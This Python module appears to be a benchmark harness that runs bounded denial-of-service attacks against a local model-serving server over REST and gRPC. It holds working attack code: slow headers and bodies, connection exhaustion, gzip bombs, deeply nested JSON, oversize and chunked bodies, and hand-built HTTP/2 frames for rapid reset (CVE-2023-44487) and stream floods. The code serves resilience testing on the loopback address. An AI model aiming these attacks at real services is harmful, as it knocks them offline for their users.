"""The attacks of `benchmarks.attacks`: each is a function of the server under attack.

Each goes to the loopback address only and is bounded in connections and time.
"""

from __future__ import annotations

import contextlib
import gzip
import os
import random
import socket
import struct
import threading
import time
from collections.abc import Callable

TOKEN = "attacks"
LARGEST = 16 * 2**20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xaa" * 500


class AttackedServer:
    """The server under attack, until the attack's time is over."""

    def __init__(self, name: str, ports: tuple[int, int], seconds: float) -> None:
        self.name = name
        self.rest, self.grpc = ports
        self.until = time.monotonic() + seconds

    @property
    def has_time_left(self) -> bool:
        """Whether the attack goes on."""
        return time.monotonic() < self.until

    def connect(self, port: int) -> socket.socket:
        """Opens a connection."""
        line = socket.create_connection(("127.0.0.1", port), timeout=5)
        line.settimeout(max(0.1, min(5.0, self.until - time.monotonic())))
        return line

    def head(self, length: int | None, extra: str = "") -> bytes:
        """Returns the head of a request to predict, with the token."""
        size = "" if length is None else f"Content-Length: {length}\r\n"
        return (
            f"POST /v1/models/{self.name}:predict HTTP/1.1\r\nHost: a\r\n"
            f"Authorization: Bearer {TOKEN}\r\n{size}{extra}\r\n"
        ).encode()

    def keep(
        self,
        port: int,
        count: int,
        sent: bytes,
        more: bytes = b"",
        every: float = 0.5,
        *,
        reads: bool = True,
    ) -> None:
        """Holds connections open, reopens those that are closed, and sends bytes slowly.

        Args:
            port: of the server.
            count: how many connections to hold open.
            sent: bytes to send at once on each connection.
            more: bytes to send again and again after that.
            every: seconds between two sends.
            reads: whether to read what the server sends.
        """
        lines: list[socket.socket] = []
        while self.has_time_left:
            while len(lines) < count and self.has_time_left:
                with contextlib.suppress(OSError):
                    line = self.connect(port)
                    line.sendall(sent)
                    line.setblocking(False)
                    lines.append(line)

            begun = time.monotonic()
            lines = [line for line in lines if _is_open(line, more, reads=reads)]
            now = time.monotonic()
            time.sleep(max(0.0, min(begun + every - now, self.until - now)))
        for line in lines:
            line.close()

    def ask(self, port: int, sent: bytes, *, reads: bool = True) -> None:
        """Sends the same on one new connection after another, and reads the first answer."""
        while self.has_time_left:
            with contextlib.suppress(OSError), self.connect(port) as line:
                line.sendall(sent)
                if reads:
                    line.recv(2**20)


def _is_open(line: socket.socket, more: bytes, *, reads: bool = True) -> bool:
    try:
        if more:
            line.send(more)
        if not reads or line.recv(65536):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    line.close()
    return False


def silent(target: AttackedServer) -> None:
    """Silent connections to both ports: together more than the server may open files."""
    other = threading.Thread(target=target.keep, args=(target.grpc, 550, b""))
    other.start()
    target.keep(target.rest, 550, b"")
    other.join()


def slow_heads(target: AttackedServer) -> None:
    """Heads that arrive byte by byte."""
    target.keep(target.rest, 300, b"POST /v1/models/a:predict HTTP/1.1\r\nX: ", b"x", 0.1)


def slow_bodies(target: AttackedServer) -> None:
    """Bodies that arrive byte by byte: half as many as requests may be in progress."""
    target.keep(target.rest, 256, target.head(100_000), b" ", 0.1)


def large_slow_bodies(target: AttackedServer) -> None:
    """Bodies without their end."""
    target.keep(target.rest, 8, target.head(LARGEST) + b" " * (LARGEST // 4), b" ", 0.1)


def large_heads(target: AttackedServer) -> None:
    """Headers and URLs of a megabyte."""
    while target.has_time_left:
        for sent in (b"GET /" + b"x" * 2**20, b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 2**17):
            with contextlib.suppress(OSError), target.connect(target.rest) as line:
                line.sendall(sent)
                line.recv(1000)


def gzip_bombs(target: AttackedServer) -> None:
    """Bodies of 250 KB that unpack to 256 MiB."""
    bomb = gzip.compress(b" " * (256 * 2**20), 9)
    target.ask(target.rest, target.head(len(bomb), "Content-Encoding: gzip\r\n") + bomb)


def big_lists(target: AttackedServer) -> None:
    """Sixteen MiB of empty lists."""
    body = b'{"instances": [' + b"[]," * ((LARGEST - 100) // 3) + b"[]]}"
    target.ask(target.rest, target.head(len(body)) + body)


def deep_lists(target: AttackedServer) -> None:
    """Lists in lists in lists."""
    body = b'{"instances": ' + b"[" * 2**20 + b"]" * 2**20 + b"}"
    target.ask(target.rest, target.head(len(body)) + body)


def tiny_chunks(target: AttackedServer) -> None:
    """A body of chunks of one byte."""
    head = target.head(None, "Transfer-Encoding: chunked\r\n")
    target.ask(target.rest, head + b"1\r\n \r\n" * 2**20)


def pipelining(target: AttackedServer) -> None:
    """Thousands of requests at once on one connection."""
    one = target.head(2) + b"{}"
    target.ask(target.rest, one * 5000)


def unread_answers(target: AttackedServer) -> None:
    """Requests whose answers are not read."""
    one = (
        f"GET /v1/models/{target.name}/metadata HTTP/1.1\r\nHost: a\r\n"
        f"Authorization: Bearer {TOKEN}\r\n\r\n"
    ).encode()
    target.keep(target.rest, 100, one * 16, one * 4, 0.2, reads=False)


def oversize(target: AttackedServer) -> None:
    """Bodies four times as large as allowed, with and without a declared length."""
    body = b" " * (4 * LARGEST)
    while target.has_time_left:
        for head in (
            target.head(len(body)),
            target.head(None, "Transfer-Encoding: chunked\r\n") + b"4000000\r\n",
        ):
            with contextlib.suppress(OSError), target.connect(target.rest) as line:
                line.sendall(head + body)


def garbage(target: AttackedServer) -> None:
    """Random bytes, and a TLS handshake, on both ports."""
    draw = random.Random(1)
    while target.has_time_left:
        for port in (target.rest, target.grpc):
            for sent in (draw.randbytes(2000), HELLO):
                with contextlib.suppress(OSError), target.connect(port) as line:
                    line.sendall(sent)
                    line.recv(1000)


def wrong_tokens(target: AttackedServer) -> None:
    """Large REST requests with a wrong token."""
    head = target.head(LARGEST).replace(TOKEN.encode(), b"guess")
    target.ask(target.rest, head + b" " * LARGEST)


def wrong_tokens_by_grpc(target: AttackedServer) -> None:
    """Large gRPC messages with a wrong token."""
    _grpc_messages(target, b"\0" * LARGEST, "guess")


def many_fields(target: AttackedServer) -> None:
    """Messages by gRPC that consist of empty fields."""
    _grpc_messages(target, b"\x12\x00" * (LARGEST // 2 - 8), TOKEN)


def rapid_reset(target: AttackedServer) -> None:
    """Calls that are cancelled at once (CVE-2023-44487)."""
    _frames(target, lambda stream: _headers(stream) + _frame(3, 0, stream, b"\0\0\0\x08"))


def many_streams(target: AttackedServer) -> None:
    """Endless calls, a thousand on each connection."""
    _frames(target, lambda stream: _headers(stream), limit=1000, hold=True)


def slow_messages(target: AttackedServer) -> None:
    """Messages of 16 MiB without their end, a hundred on each connection."""
    prefix = b"\0" + struct.pack(">I", LARGEST - 1)
    _frames(
        target,
        lambda stream: _headers(stream) + _frame(0, 0, stream, prefix + b" " * 600),
        limit=100,
        hold=True,
    )


def _grpc_messages(target: AttackedServer, message: bytes, token: str) -> None:
    import grpc

    metadata = (("authorization", f"Bearer {token}"),)
    with grpc.insecure_channel(f"127.0.0.1:{target.grpc}") as channel:
        call = channel.unary_unary("/tensorflow.serving.PredictionService/Predict")
        while target.has_time_left:
            with contextlib.suppress(grpc.RpcError):
                call(message, metadata=metadata, timeout=max(0.1, target.until - time.monotonic()))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    length = struct.pack(">I", len(payload))[1:]
    return length + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _headers(stream: int) -> bytes:
    """Returns the frame of a call's headers, in HPACK without its table."""

    def literal(name: str, value: str) -> bytes:
        return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()

    headers = {
        ":path": "/tensorflow.serving.PredictionService/Predict",
        ":authority": "a",
        "te": "trailers",
        "content-type": "application/grpc",
        "authorization": f"Bearer {TOKEN}",
    }
    block = b"\x83\x86" + b"".join(literal(name, value) for name, value in headers.items())
    return _frame(1, 4, stream, block)


def _frames(
    target: AttackedServer, made: Callable[[int], bytes], limit: int = 10_000, *, hold: bool = False
) -> None:
    """Sends HTTP/2 frames for one stream after another, on new connections as old ones end."""
    held: list[socket.socket] = []
    while target.has_time_left:
        with contextlib.suppress(OSError):
            line = target.connect(target.grpc)
            line.sendall(PREFACE)
            line.setblocking(True)
            line.settimeout(1)
            for number in range(0, limit, 10):
                line.sendall(b"".join(made(2 * at + 1) for at in range(number, number + 10)))
                if not target.has_time_left:
                    break
            if hold:
                held.append(line)
            else:
                line.close()
        if len(held) >= 20:
            time.sleep(0.2)
            held = [line for line in held if line.setblocking(False) or _is_open(line, b"")]
    for line in held:
        line.close()


# The attacks by name, with the number of processes that run each.
ATTACKS: dict[str, tuple[Callable[[AttackedServer], None], int]] = {
    attack.__name__: (attack, processes)
    for attack, processes in (
        (silent, 2), (slow_heads, 2), (slow_bodies, 2), (large_slow_bodies, 1), (large_heads, 1),
        (gzip_bombs, 1), (big_lists, 2), (deep_lists, 1), (tiny_chunks, 1), (pipelining, 1),
        (unread_answers, 1), (oversize, 1), (garbage, 1), (wrong_tokens, 1),
        (wrong_tokens_by_grpc, 1), (many_fields, 1), (rapid_reset, 1), (many_streams, 1),
        (slow_messages, 1),
    )
}  # fmt: skip


def run_attack(name: str, target: AttackedServer) -> None:
    """Runs an attack at the lowest priority, until its time is over."""
    os.nice(19)
    ATTACKS[name][0](target)
